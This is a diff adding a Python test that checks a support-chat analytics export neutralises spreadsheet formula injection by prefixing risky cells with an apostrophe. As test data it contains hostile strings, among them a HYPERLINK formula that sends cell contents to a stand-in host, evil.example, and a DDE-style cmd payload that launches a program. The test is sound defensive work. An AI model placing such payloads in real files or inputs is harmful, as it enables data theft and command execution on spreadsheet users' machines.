@@ -60,3 +60,30 @@ def test_a_bad_date_exits_2_and_no_database_is_only_a_header(capsys, tmp_path):
     code, rows, err = gaps(capsys)
     assert code == 0 and rows == [["group", "count", "example questions", "last seen"]]
     assert "no recorded sessions yet" in err and not paths.database_path().exists()
+
+
+def test_a_customer_line_shaped_like_a_formula_stays_text_in_a_spreadsheet(capsys):
+    """A customer who types a spreadsheet formula into the chat ("=HYPERLINK(...)", "@SUM(...)", "+31 ...")
+    reaches the team lead's spreadsheet through the gaps file: opened in Excel or LibreOffice, a cell starting
+    with = + - @ is run as a formula (a link that sends the sheet's contents away, or worse). Such a cell gets a
+    leading apostrophe, which spreadsheets read as "this is text"."""
+    hostile = [
+        '=HYPERLINK("https://evil.example/?q="&A2,"Click for your refund")',
+        "@SUM(1+1)*cmd|' /C calc'!A0 is my question about the invoice",
+        "+31 6 12345678 why was my invoice charged twice",
+        "-2+3 invoice question",
+    ]
+    recorder = BackgroundRecorder(paths.database_path())
+    try:
+        for number, line in enumerate(hostile):
+            record_call(recorder, [("customer", line), ("agent", "Let me check"), ("customer", line)],
+                        start=T0 + number * DAY, agent_name="ann")
+        recorder.flush()
+    finally:
+        recorder.close()
+    code, rows, err = gaps(capsys)
+    assert code == 0, err
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
